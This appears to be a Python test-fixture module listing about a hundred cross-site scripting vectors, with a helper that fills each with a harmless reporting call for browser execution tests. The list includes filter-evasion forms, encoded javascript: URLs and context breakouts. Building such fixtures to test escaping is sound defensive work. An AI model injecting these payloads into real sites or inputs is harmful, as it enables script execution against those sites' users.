"""A hundred known cross-site scripting vectors, as published collections list them.

RUN stands for the call that reports execution. Each works in Chromium if a page shows it unescaped in text, in an
attribute, in a URL or in a plain-text element; `scripts/test_injected_scripts.py` verifies that.
"""

IN_TEXT = r'''
<script>RUN</script>
<script >RUN</script >
<ScRiPt>RUN</sCrIpT>
<script/x>RUN</script>
<script type=text/javascript>RUN</script>
<script type=module>RUN</script>
<script src="data:text/javascript,RUN"></script>
<script src=data:,RUN></script>
<script>eval('RUN')</script>
<script>setTimeout('RUN')</script>
<script>Function('RUN')()</script>
<script>new Image().onerror=()=>RUN;RUN</script>
<script>/*<!--*/RUN</script>
<script><!--
RUN</script>
<script>onerror=()=>RUN;throw 1</script>
<script>location='javascript:RUN'</script>
<img src=x onerror=RUN>
<img src=x onerror="RUN">
<img/src='x'/onerror=RUN>
<img src onerror=RUN>
<IMG SRC=x OnErRoR=RUN>
<img	src=x	onerror=RUN>
<img src=x onerror&#61;x onerror=RUN>
<img src=data: onerror=RUN>
<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload=RUN>
<img srcset=x onerror=RUN>
<picture><img srcset=x onerror=RUN></picture>
<image src=x onerror=RUN>
<img src=x onerror=&#40;()=&gt;RUN&#41;()>
<img src="x:x" onerror="eval(atob('dm9pZCAw'));RUN">
<<img src=x onerror=RUN>
<img """><img src=x onerror=RUN>
<svg onload=RUN>
<svg/onload=RUN>
<svg><script>RUN</script></svg>
<svg><script>&#40;()=>RUN&#41;()</script></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><set onbegin=RUN attributename=x dur=1s>
<svg><animatetransform onbegin=RUN attributename=transform dur=1s>
<svg><animatemotion onbegin=RUN dur=1s path=M0,0>
<svg><image href=x onerror=RUN>
<svg><a xlink:href="javascript:RUN"><text x=20 y=20>x</text></a></svg>
<svg><title><img src=x onerror=RUN></title></svg>
<svg><desc><img src=x onerror=RUN></desc></svg>
<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>
<svg><style><img src=x onerror=RUN></style></svg>
<math><mtext><img src=x onerror=RUN></mtext></math>
<math><annotation-xml encoding=text/html><img src=x onerror=RUN></annotation-xml></math>
<body onload=RUN>
<body onpageshow=RUN>
<iframe onload=RUN></iframe>
<iframe src="javascript:RUN"></iframe>
<iframe src="java&#9;script:RUN"></iframe>
<iframe src=" javascript:RUN"></iframe>
<iframe srcdoc="<script>RUN</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=RUN&gt;"></iframe>
<object data="javascript:RUN" onerror=RUN></object>
<object data=x onerror=RUN></object>
<embed src="data:text/html,x" onload=RUN>
<video src=x onerror=RUN></video>
<video><source src=x onerror=RUN></video>
<audio src=x onerror=RUN></audio>
<audio><source onerror=RUN src=x></audio>
<video poster=x onloadstart=RUN src=data:,x></video>
<link rel=stylesheet href=data:text/css,x onload=RUN>
<link rel=stylesheet href=x: onerror=RUN>
<style onload=RUN></style>
<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=RUN>x</b>
<input autofocus onfocus=RUN>
<select autofocus onfocus=RUN></select>
<textarea autofocus onfocus=RUN></textarea>
<button autofocus onfocus=RUN>x</button>
<b tabindex=1 onfocus=RUN autofocus>x</b>
<b contenteditable onblur=RUN autofocus>x</b>
<input type=image src=x onerror=RUN>
<details open ontoggle=RUN>x</details>
<details><summary onclick=RUN>x</summary></details>
<dialog open onclose=RUN>x</dialog>
<b onclick=RUN>x</b>
<b onmouseover="RUN">x</b>
<b onpointerenter='RUN'>x</b>
<b oncopy=RUN>x</b>
<form onsubmit=RUN><button>x</button></form>
<form action="javascript:RUN"><button>x</button></form>
<form><button formaction="javascript:RUN">x</button></form>
<form><input type=submit formaction="javascript:RUN"></form>
<a href="javascript:RUN">x</a>
<a href="JaVaScRiPt:RUN">x</a>
<a href="&#106;avascript:RUN">x</a>
<a href="java&#10;script:RUN">x</a>
<a href="&#1;javascript:RUN">x</a>
<map><area shape=default href="javascript:RUN"></map>
<template><s></template><img src=x onerror=RUN>
<noscript><p title="</noscript><img src=x onerror=RUN>">
--><img src=x onerror=RUN>
</title><img src=x onerror=RUN>
</textarea><img src=x onerror=RUN>
</style><img src=x onerror=RUN>
"><script>RUN</script>
'><script>RUN</script>
" onfocus=RUN autofocus x="
' onfocus=RUN autofocus x='
" onmouseover="RUN
javascript:RUN
'''.strip()
# One per line, except for one that needs a line break.
VECTORS = [each for each in IN_TEXT.replace("<!--\nRUN", "<!--\\nRUN").split("\n") if each]
VECTORS = [each.replace("<!--\\nRUN", "<!--\nRUN") for each in VECTORS]


def vector(number: int) -> str:
    """Returns vector `number`, which reports its number when it runs."""
    return VECTORS[number].replace("RUN", f"ran({number})")
